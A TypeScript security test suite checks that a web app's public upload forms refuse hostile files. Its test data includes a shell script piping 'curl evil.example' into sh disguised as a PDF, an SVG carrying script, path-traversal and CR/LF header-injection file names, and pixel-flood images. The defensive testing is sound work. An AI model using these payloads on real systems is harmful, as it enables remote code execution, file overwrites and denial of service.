// Attack battery: hostile uploads on the public request form. Each is refused with its exact
// status, and leaves no row and no file behind. Add a row to HOSTILE_UPLOADS for a new attack;
// add a route to UPLOAD_ROUTES when another public form takes files.
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HTML_BYTES, jpegOfSize, PDF_BYTES, PNG_BYTES } from '../support/files.js';
import {
  appWithUploadFolder,
  countRows,
  filesUnder,
  pixelFloodGif,
  pixelFloodJpeg,
  pixelFloodPng,
  rawMultipart,
  type RawPart,
} from '../support/security.js';
import { applicationFields } from '../support/driver-applications.js';
import { nextClientAddress, shipperFields } from '../support/service-requests.js';
import { openTestDatabase } from '../support/test-database.js';
import type { DatabaseHandle } from '../../src/server/db/client.js';
import { uploads } from '../../src/server/db/schema.js';

let database: DatabaseHandle;
let app: FastifyInstance;
let uploadsDir: string;

beforeAll(async () => {
  database = await openTestDatabase();
  ({ app, uploadsDir } = await appWithUploadFolder(database));
});
afterAll(async () => {
  await app?.close();
  await database?.close();
});

// Public routes that take files, with the field their files go under.
const UPLOAD_ROUTES = [{ url: '/api/service-requests', fileField: 'itemPhotos', fields: shipperFields }];

const MB = 1024 * 1024;
const photo = (filenameParameter: string, value: Buffer): RawPart => ({
  name: 'itemPhotos',
  filenameParameter,
  value,
  contentType: 'image/jpeg',
});

interface HostileUpload {
  attack: string;
  parts: (fileField: string) => RawPart[];
  status: 400 | 413 | 415;
  message: string;
}

const HOSTILE_UPLOADS: HostileUpload[] = [
  {
    attack: 'a file over 10 MB',
    parts: () => [photo('filename="big.jpg"', jpegOfSize(10 * MB + 1))],
    status: 413,
    message: 'big.jpg is too large (max 10MB)',
  },
  {
    attack: 'six files',
    parts: () => Array.from({ length: 6 }, (_, n) => photo(`filename="p${n}.png"`, PNG_BYTES)),
    status: 413,
    message: 'Maximum 5 files allowed',
  },
  {
    attack: 'too many parts',
    parts: () => Array.from({ length: 80 }, (_, n) => ({ name: `extra${n}`, value: 'x' })),
    status: 413,
    message: 'The form has too many fields.',
  },
  {
    attack: 'a field over 10,000 characters',
    parts: () => [{ name: 'additionalNotes', value: 'x'.repeat(10_001) }],
    status: 413,
    message: 'additionalNotes is too long.',
  },
  {
    attack: 'an HTML page named .jpg',
    parts: () => [photo('filename="holiday.jpg"', HTML_BYTES)],
    status: 415,
    message: 'holiday.jpg is not a supported file type',
  },
  {
    attack: 'a script named .pdf',
    parts: () => [photo('filename="invoice.pdf"', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'))],
    status: 415,
    message: 'invoice.pdf is not a supported file type',
  },
  {
    attack: 'an SVG with script named .png',
    parts: () => [photo('filename="logo.png"', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))],
    status: 415,
    message: 'logo.png is not a supported file type',
  },
  {
    attack: 'a path in the file name',
    parts: () => [photo('filename="../../../etc/cron.d/photo.png"', PNG_BYTES)],
    status: 400,
    message: 'The file name "photo.png" is not allowed: use a plain name without folders or control characters',
  },
  {
    attack: 'a Windows path in the file name',
    parts: () => [photo('filename="C:\\\\Windows\\\\photo.png"', PNG_BYTES)],
    status: 400,
    message: 'The file name "photo.png" is not allowed: use a plain name without folders or control characters',
  },
  {
    attack: 'a pixel-flood PNG (60,000 x 60,000)',
    parts: () => [photo('filename="flood.png"', pixelFloodPng())],
    status: 413,
    message: 'flood.png has too many pixels (at most 100 megapixels) or cannot be read as an image',
  },
  {
    attack: 'a pixel-flood GIF (65,535 x 65,535)',
    parts: () => [photo('filename="flood.gif"', pixelFloodGif())],
    status: 413,
    message: 'flood.gif has too many pixels (at most 100 megapixels) or cannot be read as an image',
  },
  {
    attack: 'a pixel-flood JPEG (65,000 x 65,000)',
    parts: () => [photo('filename="flood.jpg"', pixelFloodJpeg())],
    status: 413,
    message: 'flood.jpg has too many pixels (at most 100 megapixels) or cannot be read as an image',
  },
  {
    attack: 'a good photo, then a bad one',
    parts: () => [photo('filename="ok.png"', PNG_BYTES), photo('filename="bad.jpg"', HTML_BYTES)],
    status: 415,
    message: 'bad.jpg is not a supported file type',
  },
  {
    attack: 'a file under another field name',
    parts: () => [{ name: 'avatar', filenameParameter: 'filename="me.png"', value: PNG_BYTES, contentType: 'image/png' }],
    status: 400,
    message: 'Files are accepted only as itemPhotos.',
  },
];

describe.each(UPLOAD_ROUTES)('hostile uploads to $url', ({ url, fields }) => {
  it.each(HOSTILE_UPLOADS)('$attack: $status, no row, no file', async ({ parts, status, message }) => {
    const before = await countRows(database);
    const textParts = Object.entries(fields()).map(([name, value]) => ({ name, value }));
    const body = rawMultipart([...textParts, ...parts('itemPhotos')]);
    const response = await app.inject({
      method: 'POST',
      url,
      remoteAddress: nextClientAddress(),
      headers: { 'content-type': body.contentType },
      payload: body.payload,
    });
    expect({ status: response.statusCode, message: response.json<{ message: string }>().message }).toEqual({ status, message });
    expect(await countRows(database)).toEqual(before);
    expect(filesUnder(uploadsDir)).toEqual([]);
  });

  // CR or LF in a file name cannot reach our code: the multipart parser ends the header line
  // there (the name is cut before it) or drops a part whose encoded name holds one. Either way no
  // stored name holds a line break, so none can forge a header where names are echoed.
  it.each([`filename*=UTF-8''photo.png%0D%0AX-Injected%3A%20yes`, 'filename="photo\r\nX-Injected: yes.png"'])(
    'CR/LF in the file name (%s): no stored name holds a line break',
    async (filenameParameter) => {
      const textParts = Object.entries(fields()).map(([name, value]) => ({ name, value }));
      const body = rawMultipart([...textParts, photo(filenameParameter, PNG_BYTES)]);
      const response = await app.inject({
        method: 'POST',
        url,
        remoteAddress: nextClientAddress(),
        headers: { 'content-type': body.contentType },
        payload: body.payload,
      });
      expect([201, 400]).toContain(response.statusCode);
      // The parser cuts the name at the break (or drops the encoded one), so the rest is accepted.
      expect(response.statusCode).toBe(201);
      const names = await database.db.select({ name: uploads.originalName }).from(uploads);
      expect(names.filter(({ name }) => /[\r\n]|X-Injected/.test(name))).toEqual([]);
    },
  );

  it('still accepts ordinary photos and a PDF (the battery is not refusing everything)', async () => {
    const textParts = Object.entries(fields()).map(([name, value]) => ({ name, value }));
    const body = rawMultipart([...textParts, photo('filename="sofa.png"', PNG_BYTES), photo('filename="bill of lading.pdf"', PDF_BYTES)]);
    const response = await app.inject({
      method: 'POST',
      url,
      remoteAddress: nextClientAddress(),
      headers: { 'content-type': body.contentType },
      payload: body.payload,
    });
    expect(response.statusCode).toBe(201);
    const stored = await database.db.select({ name: uploads.originalName }).from(uploads);
    expect(stored.map(({ name }) => name)).toEqual(expect.arrayContaining(['sofa.png', 'bill of lading.pdf']));
    expect(filesUnder(uploadsDir)).toHaveLength(stored.length);
  });
});

// The driver application's documents: the same attacks on the license copy (pdf, jpeg, png, 5 MB,
// one file), sent beside a valid resume so that the refusal is the hostile file's alone.
const license = (filenameParameter: string, value: Buffer): RawPart => ({
  name: 'licenseFile',
  filenameParameter,
  value,
  contentType: 'image/png',
});

const HOSTILE_DOCUMENTS: HostileUpload[] = [
  {
    attack: 'a license copy over 5 MB',
    parts: () => [license('filename="big.jpg"', jpegOfSize(5 * MB + 1))],
    status: 413,
    message: 'big.jpg is too large (max 5MB)',
  },
  {
    attack: 'two license copies',
    parts: () => [license('filename="a.png"', PNG_BYTES), license('filename="b.png"', PNG_BYTES)],
    status: 413,
    message: 'Only one file is allowed here',
  },
  {
    attack: 'an HTML page named .pdf',
    parts: () => [license('filename="license.pdf"', HTML_BYTES)],
    status: 415,
    message: 'license.pdf is not a supported file type',
  },
  {
    attack: 'a path in the file name',
    parts: () => [license('filename="../../license.png"', PNG_BYTES)],
    status: 400,
    message: 'The file name "license.png" is not allowed: use a plain name without folders or control characters',
  },
  {
    attack: 'a pixel-flood PNG (60,000 x 60,000)',
    parts: () => [license('filename="flood.png"', pixelFloodPng())],
    status: 413,
    message: 'flood.png has too many pixels (at most 100 megapixels) or cannot be read as an image',
  },
  {
    attack: 'a file under another field name',
    parts: () => [{ name: 'photo', filenameParameter: 'filename="me.png"', value: PNG_BYTES, contentType: 'image/png' }],
    status: 400,
    message: 'Files are accepted only as resumeFile, licenseFile, medicalCardFile, signatureFile.',
  },
];

describe('hostile documents to /api/driver-applications', () => {
  it.each(HOSTILE_DOCUMENTS)('$attack: $status, no row, no file', async ({ parts, status, message }) => {
    const before = await countRows(database);
    const filesBefore = filesUnder(uploadsDir);
    const textParts = Object.entries(applicationFields()).map(([name, value]) => ({ name, value }));
    const resume: RawPart = {
      name: 'resumeFile',
      filenameParameter: 'filename="resume.pdf"',
      value: PDF_BYTES,
      contentType: 'application/pdf',
    };
    const body = rawMultipart([...textParts, resume, ...parts('licenseFile')]);
    const response = await app.inject({
      method: 'POST',
      url: '/api/driver-applications',
      remoteAddress: nextClientAddress(),
      headers: { 'content-type': body.contentType },
      payload: body.payload,
    });
    expect({ status: response.statusCode, message: response.json<{ message: string }>().message }).toEqual({ status, message });
    expect(await countRows(database)).toEqual(before);
    expect(filesUnder(uploadsDir)).toEqual(filesBefore);
  });
});
